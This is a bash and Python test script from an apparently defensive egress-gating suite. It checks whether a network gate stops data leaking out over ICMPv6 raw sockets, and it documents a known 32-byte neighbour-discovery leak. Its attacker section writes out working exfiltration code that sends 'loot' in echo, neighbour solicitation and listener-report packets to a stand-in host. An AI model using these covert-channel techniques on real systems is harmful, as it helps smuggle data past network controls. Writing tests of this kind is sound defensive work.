#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: sends ICMPv6 by raw sockets that are older than the gate: at length, and in the form of neighbour discovery, of which 32 bytes pass, and of listener reports, which stay on the link
# stopped-by: egress
# reason: socket_type
# kernels: all
#
# A limit, recorded so that nobody takes it for shut: the kernel's own neighbour discovery comes from a raw
# socket, too, which belongs to the cgroup of who made the network namespace, often the client's; without
# it IPv6 fails. Nothing that a packet hook may ask tells the two sockets apart. Whoever gates before the first instruction, or takes
# CAP_NET_RAW away, has no such sockets.
. "$(dirname "$0")/lib.sh"
arena udp/9000

# The watch leaves neighbour discovery out, so this one listens for it.
cat >"$SCRATCH/listen.py" <<'PYTHON'
import re, socket
sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x86DD))
print("ready", flush=True)
while True:
    packet = sock.recv(65536)
    found = re.search(rb"stolen:[a-z0-9-]*:run[0-9]+|(?:nd|mld):run[0-9]+", packet)
    if packet[6] in (0, 58) and found:
        print(len(packet) - 40, found[0].decode(), flush=True)
PYTHON
HEARD=$SCRATCH/heard
spawn_in "$SERVER" python3 -u "$SCRATCH/listen.py" >"$HEARD"
wait_for 5 grep -q ready "$HEARD"

attack_by <<'PYTHON'
from attacker import *

raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
header = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
raw.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
ready()

def solicit(data, option=b"\1\1" + bytes(6)):
    return struct.pack("!BBHI", 135, 0, 0, 0) + data.ljust(16, b".") + option

with attempt("echo"):
    raw.sendto(struct.pack("!BBHHH", 128, 0, 0, 1, 1) + loot("echo"), (EVIL6, 0))
with attempt("long"):
    raw.sendto(solicit(bytes(16), loot("long").ljust(40, b".")), (EVIL6, 0))
with attempt("short"):
    raw.sendto(solicit(f"nd:{ROUND}".encode()), (EVIL6, 0))
with attempt("report"):
    router_alert = bytes([58, 0, 5, 2, 0, 0, 1, 0])
    report = struct.pack("!BBHI", 143, 0, 0, 0) + f"mld:{ROUND}".encode().ljust(400, b".")
    packet = struct.pack("!IHBB16s16s", 6 << 28, len(router_alert + report), 0, 1, socket.inet_pton(socket.AF_INET6, OWN6),
                         socket.inet_pton(socket.AF_INET6, "ff02::16"))
    header.sendto(packet + router_alert + report, ("ff02::16", 0, 0, socket.if_nametoindex("eth0")))
PYTHON
heard() { grep -q " $1:$ROUND" "$HEARD"; }
works_once_open 'settled|ready'
for what in stolen:echo stolen:long nd mld; do
	wait_for 3 heard "$what" || fail "$what did not arrive: $SAID, $(cat "$HEARD")"
done
stopped_once_open gate
for what in nd mld; do
	wait_for 3 heard "$what" || fail "$what does not pass any more: say so"
done
for what in stolen:echo stolen:long; do
	heard "$what" && fail "$what got out"
done
same "the most that is sent to another network" 32 "$(awk -v run="nd:$ROUND" '$2 == run { print $1 }' "$HEARD")"
recorded egress socket_type
